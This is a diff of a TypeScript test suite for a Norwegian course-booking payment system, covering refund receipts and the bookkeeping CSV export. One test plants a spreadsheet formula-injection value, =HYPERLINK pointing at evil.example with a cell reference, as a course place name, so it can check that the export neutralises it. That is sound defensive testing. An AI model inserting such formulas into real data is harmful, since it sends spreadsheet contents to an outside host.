@@ -240,6 +240,18 @@ describe('receipts for every refund', () => {
     expect(listed.receipts.map((r: { kind: string; amount: number }) => [r.kind, r.amount]).sort()).toEqual([['payment', PRICE], ['refund', 10_000]]);
   });
 
+  it('money event "admin refunds in the back office": the parent\'s receipt names the reference in Norwegian, never "pspReference"', async () => {
+    const c = await course();
+    const { family, order } = await payForCourse(kit.t, c);
+    const res = await kit.t.http('POST', `/api/payments/${order.id}/refund`, { token: kit.adminToken, body: { amount: 10_000, removeFromCourse: false, idempotencyKey: randomUUID() } });
+    expect(res.status, res.text).toBe(200);
+    const [mail] = await mailsTo(family, 'Refusjon:');
+    const text = await pdfText((mail!.attachments as Attachment[])[0]!.content);
+    expect(text).not.toContain('pspReference');
+    expect(text).toMatch(/Betalingsreferanse: \S+/);
+    expect(text).toContain('Vipps-referanse');
+  });
+
   it("money event \"a cancelled date's share refunded\": a receipt by e-mail", async () => {
     const { family, order, token } = await paidWithCancelledDate(0);
     expect((await choose((await choiceOf(order.id)).id, token, 'refund')).status).toBe(200);
@@ -276,12 +288,12 @@ describe('bookkeeping', () => {
     await kit.t.http('POST', `/api/payments/${order.id}/refund`, { token: kit.adminToken, body: { amount: 10_000, removeFromCourse: false, idempotencyKey: randomUUID() } });
     const today = osloDateKey(new Date());
     const file = await bookkeeping(kit.t.ctx, { from: today, to: today });
-    const rows = file.rows.filter((r) => r.orderId === order.id).map((r) => [r.kind, r.course]);
-    expect(rows).toEqual([['capture', from.name], ['refund', 'c52 Flyttet hit']]);
+    const rows = file.rows.filter((r) => r.orderId === order.id).map((r) => [r.kind, r.courseId]);
+    expect(rows).toEqual([['capture', from.id], ['refund', to.id]]);
   });
 
   it('L4: the CSV neutralises text cells that start with = + - @ tab or CR; negative amounts stay numbers', async () => {
-    const evil = await createCourse(kit.t.db, { priceOre: PRICE, maximumParticipants: 6, dates: DATES, ageMinMonths: null, ageMaxMonths: null, name: '=HYPERLINK("http://evil.example/?x="&A2,"Klikk")' });
+    const evil = await createCourse(kit.t.db, { priceOre: PRICE, maximumParticipants: 6, dates: DATES, ageMinMonths: null, ageMaxMonths: null, place: await createPlace(kit.t.db, { name: '=HYPERLINK("http://evil.example/?x="&A2,"Klikk")' }) });
     const { order } = await payForCourse(kit.t, evil);
     await kit.t.http('POST', `/api/payments/${order.id}/refund`, { token: kit.adminToken, body: { amount: 10_000, removeFromCourse: false, idempotencyKey: randomUUID() } });
     const today = osloDateKey(new Date());
@@ -291,7 +303,7 @@ describe('bookkeeping', () => {
     for (const line of lines) expect(line).toContain(`"'=HYPERLINK(`);
     expect(csv).not.toMatch(/;"?=HYPERLINK/);
     expect(lines.find((l) => l.includes('Refusjon'))).toMatch(/;-100;/);
-    const perCourse = csv.split(/\r?\n/).find((l) => l.startsWith(`"'=HYPERLINK`));
+    const perCourse = csv.split(/\r?\n/).find((l) => l.includes(`"'=HYPERLINK`) && !l.includes(order.humanReference));
     expect(perCourse).toBeDefined();
     expect((await kit.t.db.select().from(orderEvents).where(eq(orderEvents.orderId, order.id))).length).toBeGreaterThan(1);
   });
